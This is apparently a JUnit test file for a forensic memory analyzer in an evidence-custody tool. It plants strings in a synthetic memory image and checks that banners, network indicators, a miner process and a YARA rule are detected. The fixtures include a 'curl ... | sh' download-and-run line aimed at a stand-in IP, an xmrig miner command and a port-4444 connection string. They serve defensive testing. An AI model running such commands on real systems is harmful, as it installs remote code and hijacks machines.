package io.custody.analyzer.memory;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.custody.evidence.IntegrityException;
import io.custody.evidence.Severity;
import io.custody.evidence.custody.CustodyEntry;
import io.custody.evidence.custody.Outcome;
import io.custody.evidence.hash.ProgressListener;
import io.custody.evidence.segment.Compression;
import io.custody.evidence.workspace.Case;
import io.custody.evidence.workspace.CaseStore;
import io.custody.evidence.workspace.Item;
import io.custody.evidence.workspace.ItemSpec;
import io.custody.evidence.workspace.ItemType;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class MemoryAnalysisTest {

  static final String BANNER = "Linux version 6.1.0-56-amd64 (debian-kernel@lists.debian.org) (gcc-12 (Debian 12.2.0-14) 12.2.0) #1 SMP PREEMPT_DYNAMIC Debian 6.1.192-2";

  @TempDir Path tmp;

  /** Two LiME ranges of random bytes with strings planted at known physical addresses. */
  static byte[] image() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    Random rnd = new Random(11);
    range(out, rnd, 0x1000, 0x9ffff, new Object[][] {{0x2000L, BANNER}, {0x5000L, "/usr/bin/xmrig --donate-level 1 -o pool.example:3333"}});
    range(out, rnd, 0x100000, 0x1fffff, new Object[][] {{0x100800L, "curl http://203.0.113.7:8080/x.sh | sh"}, {0x180000L, BANNER},
        {0x190000L, "connect 198.51.100.23:4444 ok"},
        {0x1a0000L, "PUT https://b.s3.amazonaws.com/custody/memory.lime?partNumber=3&X-Amz-Signature=0123456789abcdef0123 HTTP/1.1"}});
    return out.toByteArray();
  }

  static void range(ByteArrayOutputStream out, Random rnd, long start, long end, Object[][] plant) {
    out.writeBytes(ByteBuffer.allocate(32).order(ByteOrder.LITTLE_ENDIAN).putInt(0x4C694D45).putInt(1).putLong(start).putLong(end).putLong(0).array());
    byte[] data = new byte[(int) (end - start + 1)];
    rnd.nextBytes(data);
    for (int i = 0; i < data.length; i++) {
      // keep random bytes from forming long printable runs
      if ((data[i] & 0xff) >= 0x20 && (data[i] & 0xff) < 0x7f && i % 3 == 0) {
        data[i] = 0;
      }
    }
    for (Object[] p : plant) {
      byte[] s = ((String) p[1]).getBytes(StandardCharsets.US_ASCII);
      int at = (int) ((Long) p[0] - start);
      data[at - 1] = 0;
      System.arraycopy(s, 0, data, at, s.length);
      data[at + s.length] = 0;
    }
    out.writeBytes(data);
  }

  Case kaseWithMemory(byte[] image) {
    Case kase = CaseStore.at(tmp.resolve("home"), Clock.systemUTC()).open("IR-9", "Tester", null, null);
    kase.add(ItemSpec.of(ItemType.MEMORY, "i-0123456789abcdef0", "memory.lime").segmentSize(1 << 20), new ByteArrayInputStream(image), image.length,
        ProgressListener.NONE);
    return kase;
  }

  @Test
  void analyze_plantedStrings_foundAtTheirPhysicalAddresses() throws Exception {
    Case kase = kaseWithMemory(image());
    Path rules = Files.createDirectories(tmp.resolve("rules"));
    Files.writeString(rules.resolve("miner.yar"), "rule miner_xmrig { strings: $a = \"xmrig\" $b = \"donate-level\" condition: all of them }\n"
        + "rule never { strings: $n = \"no-such-string-anywhere\" condition: $n }\n");
    MemoryReport r = MemoryAnalysis.analyze(kase, "i-0123456789abcdef0", rules, ProgressListener.NONE);
    assertThat(r.layout().rangeCount()).isEqualTo(2);
    assertThat(r.banners()).singleElement().satisfies(b -> {
      assertThat(b.text()).isEqualTo(BANNER);
      assertThat(b.count()).isEqualTo(2);
      assertThat(b.physicalAddress()).isEqualTo("0x2000");
    });
    assertThat(r.network()).extracting(MemoryReport.Found::text).contains("203.0.113.7:8080", "http://203.0.113.7:8080/x.sh", "198.51.100.23:4444");
    assertThat(r.network()).filteredOn(f -> f.text().equals("198.51.100.23:4444")).singleElement()
        .satisfies(f -> assertThat(f.physicalAddress()).isEqualTo("0x190008"));
    assertThat(r.processes()).extracting(MemoryReport.Found::text).contains("/usr/bin/xmrig --donate-level 1 -o pool.example:3333");
    // a presigned URL in memory (the capture's own upload) is reported without its query string
    assertThat(r.network()).extracting(MemoryReport.Found::text).contains("https://b.s3.amazonaws.com/custody/memory.lime?***")
        .noneMatch(t -> t.contains("X-Amz-Signature"));
    assertThat(r.yara()).singleElement().satisfies(m -> {
      assertThat(m.rule()).isEqualTo("miner_xmrig");
      assertThat(m.strings()).extracting(MemoryReport.YaraString::physicalAddress).containsExactly("0x5009", "0x5011");
    });
    assertThat(r.hasFindings()).isTrue();
    // the shared finding shape the case report lists: one per matched rule, where it first matched
    assertThat(r.findings()).singleElement().satisfies(f -> {
      assertThat(f.ruleId()).isEqualTo("yara:miner_xmrig");
      assertThat(f.severity()).isEqualTo(Severity.HIGH);
      assertThat(f.address()).isEqualTo("physical 0x5009");
      assertThat(f.reason()).contains("matched 2 string(s)");
    });
    Item report = kase.item(r.analysisItem(), ItemType.ANALYSIS);
    String json = Files.readString(kase.dir().resolve(report.dir()).resolve("memory-analysis.json"));
    assertThat(json).contains("miner_xmrig", BANNER);
    var doc = io.custody.evidence.Json.mapper().readTree(json);
    assertThat(doc.get("kind").asText()).isEqualTo("custody.memory-analysis");
    assertThat(doc.get("findings").get(0).get("rule_id").asText()).isEqualTo("yara:miner_xmrig");
    List<CustodyEntry> log = kase.log().verify().entries();
    assertThat(log).anySatisfy(e -> {
      assertThat(e.event()).isEqualTo("analysed");
      assertThat(e.outcome()).isEqualTo(Outcome.SUCCEEDED);
    });
    assertThat(Files.list(kase.dir().resolve("scratch"))).isEmpty();
  }

  @Test
  void analyze_imageChangedSinceAcquisition_refusedAndRecorded() throws Exception {
    Case kase = kaseWithMemory(image());
    Item item = kase.items().get(0);
    assertThat(item.compression()).isEqualTo(Compression.ZSTD);
    // replace the first stored segment by a valid zstd frame of other bytes
    Path seg = kase.dir().resolve(item.dir()).resolve(item.segments().get(0).file());
    Files.delete(seg);
    Files.write(seg, com.github.luben.zstd.Zstd.compress(new byte[(int) item.segments().get(0).length()]));
    assertThatThrownBy(() -> MemoryAnalysis.analyze(kase, item.id(), null, ProgressListener.NONE)).isInstanceOf(IntegrityException.class)
        .hasMessageContaining("acquisition recorded");
    assertThat(kase.log().verify().entries()).anySatisfy(e -> {
      assertThat(e.event()).isEqualTo("analysed");
      assertThat(e.outcome()).isEqualTo(Outcome.FAILED);
    });
  }

  @Test
  void parse_yaraOutput_rulesAndOffsets() {
    List<YaraScan.Hit> hits = YaraScan.parse(List.of("miner_xmrig /t/x.lime", "0x5009:$a: xmrig", "0x5011:$b: donate-level", "other /t/x.lime"),
        "/t/x.lime");
    assertThat(hits).extracting(YaraScan.Hit::rule).containsExactly("miner_xmrig", "miner_xmrig", "miner_xmrig", "other");
    assertThat(hits.get(1).fileOffset()).isEqualTo(0x5009);
  }
}
